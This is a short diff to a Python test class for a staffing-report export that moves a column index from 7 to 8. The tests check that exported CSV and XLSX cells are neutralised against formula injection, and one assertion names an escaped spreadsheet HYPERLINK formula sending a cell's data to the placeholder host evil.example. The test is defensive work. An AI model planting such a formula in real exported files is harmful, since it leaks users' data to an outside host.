@@ -160,7 +160,7 @@ class TestStaffingReport:
         by_unit = {r[0]: r for r in rows[1:]}
         assert by_unit[U1][1] == "'" + UNIT
         assert by_unit[f.unit_code(2)][1] == "单位2"
-        assert by_unit[f.unit_code(2)][7] == "-5"  # difference: a number, not text
+        assert by_unit[f.unit_code(2)][8] == "-5"  # difference: a number, not text
         assert not [c for r in rows for c in r if c and c[0] in "=+@＝＋－＠\t\r"]
         raw = response.content.decode("utf-8-sig")
         assert '"\'=HYPERLINK(""http://evil.example/?d=""&H2,""点击查看"")"' in raw
@@ -176,7 +176,7 @@ class TestStaffingReport:
         sheet = xlsx_sheet(response)
         string_cell(sheet, UNIT)
         rows = {r[0]: r for r in sheet.iter_rows(values_only=True)}
-        difference = rows[f.unit_code(2)][7]
+        difference = rows[f.unit_code(2)][8]
         assert isinstance(difference, int) and difference == -5
 
 
